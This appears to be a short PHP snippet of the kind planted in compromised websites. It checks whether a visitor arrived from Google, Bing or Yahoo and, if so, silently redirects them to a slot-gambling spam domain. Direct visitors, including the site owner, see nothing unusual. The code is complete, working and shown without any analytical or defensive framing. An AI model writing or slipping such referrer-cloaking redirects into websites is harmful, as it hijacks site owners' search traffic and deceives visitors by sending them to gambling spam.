<?php
$ref = isset($_SERVER['HTTP_REFERER']) ? $_SERVER['HTTP_REFERER'] : '';
if (preg_match('/google\.|bing\.|yahoo\./i', $ref)) {
    header('Location: https://slot-gacor-hari-ini.xyz/');
    exit;
}
